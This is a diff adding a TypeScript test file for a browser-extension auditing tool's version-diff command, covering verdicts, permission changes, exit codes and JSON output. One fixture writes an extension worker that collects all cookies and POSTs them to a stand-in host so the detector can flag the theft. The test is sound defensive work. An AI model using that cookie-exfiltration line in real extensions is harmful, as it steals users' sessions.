@@ -1,0 +1,119 @@
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import type { VersionDiff } from '@extaudit/engine';
+import { runBinary } from '../run-binary.ts';
+
+const modules = join(import.meta.dirname, '../../../../node_modules');
+const vendor = (version: 1 | 3, name: string): string =>
+  join(modules, `electron-devtools-vendor-${version}`, 'extensions', name);
+
+describe('extaudit diff', () => {
+  let folder = '';
+  const manifest = { manifest_version: 3, name: 'Tide table', version: '4.1' };
+  before(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'extaudit-diff-'));
+    await writeExtension('old', manifest, 'console.log("ebb");');
+    await writeExtension(
+      'new',
+      {
+        ...manifest,
+        version: '4.2',
+        permissions: ['cookies'],
+        host_permissions: ['<all_urls>'],
+      },
+      'chrome.cookies.getAll({}, (all) => fetch("https://drop.tides.dev/in", { method: "POST", body: JSON.stringify(all) }));',
+    );
+    await writeExtension('torn', manifest, 'const = ;');
+  });
+  after(() => rm(folder, { recursive: true }));
+
+  async function writeExtension(name: string, of: object, script: string): Promise<void> {
+    await mkdir(join(folder, name));
+    const whole = { ...of, background: { service_worker: 'worker.js' } };
+    await writeFile(join(folder, name, 'manifest.json'), JSON.stringify(whole));
+    await writeFile(join(folder, name, 'worker.js'), script);
+  }
+
+  it('says what the newer version may do, does and holds', async () => {
+    const { code, stdout, stderr } = await runBinary(['diff', 'old', 'new'], { cwd: folder });
+    assert.deepEqual([code, stderr], [0, '']);
+    assert.match(stdout, /^Tide table 4\.1 -> Tide table 4\.2$/m);
+    assert.match(stdout, /^ {2}verdict clean -> malicious$/m);
+    assert.match(stdout, /^ {2}files {3}0 added, 0 removed, 2 changed, 0 unchanged$/m);
+    assert.match(stdout, /^Permissions\n {2}\+ cookies$/m);
+    assert.match(stdout, /^Host permissions\n {2}\+ <all_urls>$/m);
+    assert.match(stdout, /^ {2}\+ theft: cookies -> network \(drop\.tides\.dev\)$/m);
+    assert.match(stdout, /^ {2}\+ critical .*\(cookies-sent\)$/m);
+    assert.match(stdout, /^ {2}~ worker\.js \(\d+ -> \d+ bytes\)$/m);
+    assert.ok(!stdout.includes('\u001b'), 'no colour off a terminal');
+  });
+
+  it('2 with --fail-on-increase when the risk got worse, 0 when it got better', async () => {
+    const flags = ['--fail-on-increase', '--no-intel'];
+    const [up, down] = await Promise.all([
+      runBinary(['diff', 'old', 'new', ...flags], { cwd: folder }),
+      runBinary(['diff', 'new', 'old', ...flags], { cwd: folder }),
+    ]);
+    assert.deepEqual([up.code, down.code], [2, 0]);
+    assert.match(down.stdout, /^ {2}- theft: cookies -> network/m);
+  });
+
+  it('says that nothing changed where nothing did', async () => {
+    const { code, stdout } = await runBinary(['diff', 'old', 'old'], { cwd: folder });
+    assert.equal(code, 0);
+    assert.match(stdout, /^Nothing that is compared has changed\.$/m);
+    assert.doesNotMatch(stdout, /^Permissions$/m);
+  });
+
+  it('3 when something of either was not analysed', async () => {
+    const { code } = await runBinary(['diff', 'torn', 'old'], { cwd: folder });
+    assert.equal(code, 3);
+  });
+
+  it('1 with a clear message when one of the two cannot be audited', async () => {
+    await writeFile(join(folder, 'notes.txt'), 'This is no extension.');
+    const runs = await Promise.all([
+      runBinary(['diff', 'old', 'absent'], { cwd: folder }),
+      runBinary(['diff', 'notes.txt', 'old'], { cwd: folder }),
+      runBinary(['diff', 'old'], { cwd: folder }),
+    ]);
+    for (const { code, stdout } of runs) assert.deepEqual([code, stdout], [1, '']);
+    assert.match(runs[0].stderr, /absent: There is no such file or folder\./);
+    assert.match(runs[1].stderr, /notes\.txt: .*no extension/);
+    assert.match(runs[2].stderr, /missing required argument 'after'/);
+  });
+
+  it('compares two real versions of React Developer Tools, as JSON into a file', async () => {
+    const output = join(folder, 'changes.json');
+    const paths = [vendor(1, 'react-developer-tools'), vendor(3, 'react-developer-tools')];
+    const run = ['diff', ...paths, '--format', 'json', '--output', output, '--no-intel'];
+    const { stdout } = await runBinary(run);
+    assert.equal(stdout, '');
+    const document = JSON.parse(await readFile(output, 'utf8')) as {
+      schema_version: number;
+      before: { target: string; version: string };
+      after: { version: string };
+      diff: VersionDiff;
+    };
+    assert.equal(document.schema_version, 1);
+    assert.equal(document.before.target, paths[0]);
+    assert.notEqual(document.before.version, document.after.version);
+    const { manifest: keys, files, report } = document.diff;
+    assert.ok(keys && files && report);
+    assert.ok(keys.permissions.added.includes('scripting'), JSON.stringify(keys.permissions));
+    assert.ok(keys.manifest_keys.some(({ key }) => key === 'manifest_version'));
+    assert.ok(files.changed.some(({ path }) => path === 'manifest.json'));
+    assert.equal(report.same_ruleset, true);
+  });
+
+  it('compares every extension that both releases of the vendor package hold', async () => {
+    for (const name of ['jquery-debugger', 'mobx-devtools', 'vuejs-devtools']) {
+      const { code, stdout } = await runBinary(['diff', vendor(1, name), vendor(3, name)]);
+      assert.ok(code === 0 || code === 3, `${name}: ${code}`);
+      assert.match(stdout, /^ {2}files {3}\d+ added, \d+ removed, \d+ changed, \d+ unchanged$/m);
+    }
+  });
+});
